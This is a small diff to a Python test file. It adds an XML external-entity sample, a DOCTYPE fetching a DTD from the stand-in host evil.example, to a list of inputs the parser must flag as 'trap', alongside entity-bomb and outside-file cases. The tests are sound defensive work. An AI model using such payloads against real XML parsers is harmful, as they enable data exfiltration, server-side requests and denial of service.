@@ -169,6 +169,7 @@ def test_requests__keeps_nothing_but_what_is_counted_and_cuts_what_is_too_long()
         (b"Service unavailable", "broken"),
         (BILLION_LAUGHS, "trap"),
         (OUTSIDE_FILE, "trap"),
+        (b"<!DOCTYPE services SYSTEM 'http://evil.example/x.dtd'><services/>", "trap"),
         (b'["a"]', "other-content"),
         (b'{"data": []}', "other-content"),
         (b"<rss><channel/></rss>", "other-content"),
